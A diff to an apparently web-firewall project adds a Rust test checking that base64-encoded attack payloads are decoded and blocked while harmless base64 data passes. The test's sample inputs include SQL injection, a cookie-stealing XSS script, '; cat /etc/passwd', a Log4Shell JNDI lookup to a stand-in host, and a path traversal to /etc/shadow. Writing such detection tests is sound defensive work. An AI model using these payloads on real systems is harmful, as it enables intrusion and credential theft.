@@ -139,3 +139,56 @@ fn xss_101_namespaced_script_tags() {
     );
     benign("json", "note", "the x:script attribute of our build tool");
 }
+
+/// Base64 of `s` (standard alphabet, padding removed as attack tools send it).
+fn b64(s: &str) -> String {
+    use base64::Engine as _;
+    base64::engine::general_purpose::STANDARD_NO_PAD.encode(s)
+}
+
+#[test]
+fn base64_values_are_decoded_and_their_text_inspected() {
+    for (placement, payload) in [
+        ("query", "' union select password from users--"),
+        ("form", "<script>alert(document.cookie)</script>"),
+        ("json", "; cat /etc/passwd"),
+        ("header", "${jndi:ldap://x.example/a}"),
+        ("path_pre", "../../../../etc/shadow"),
+    ] {
+        let (parts, body) = common::build(placement, &b64(payload), Some("data"));
+        let v = shared().inspect(&parts, &body);
+        assert!(v.blocked, "base64 of {payload:?} in {placement} allowed");
+        assert!(
+            v.matches.iter().any(|m| m.excerpt.starts_with("base64: ")),
+            "{:?}",
+            v.matches
+        );
+    }
+    // Base64 of harmless text, of JSON, binary and tokens pass.
+    benign(
+        "query",
+        "state",
+        &b64("{\"return_to\":\"/dashboard\",\"tab\":2}"),
+    );
+    benign("json", "note", &b64("O'Brien & Sons, est. 1921 -- Dublin"));
+    benign(
+        "json",
+        "avatar",
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
+    );
+    benign(
+        "query",
+        "cursor",
+        "eyJpZCI6MTIzNCwic29ydCI6ImNyZWF0ZWRfYXQifQ",
+    );
+    // Off when the limit is 0.
+    let mut spec = portcullis_firewall::FirewallSpec::default();
+    spec.limits.max_base64_bytes = 0;
+    let fw = portcullis_firewall::Firewall::new(&spec).expect("firewall");
+    let (parts, body) = common::build(
+        "query",
+        &b64("' union select password from users--"),
+        Some("q"),
+    );
+    assert!(!fw.inspect(&parts, &body).blocked);
+}
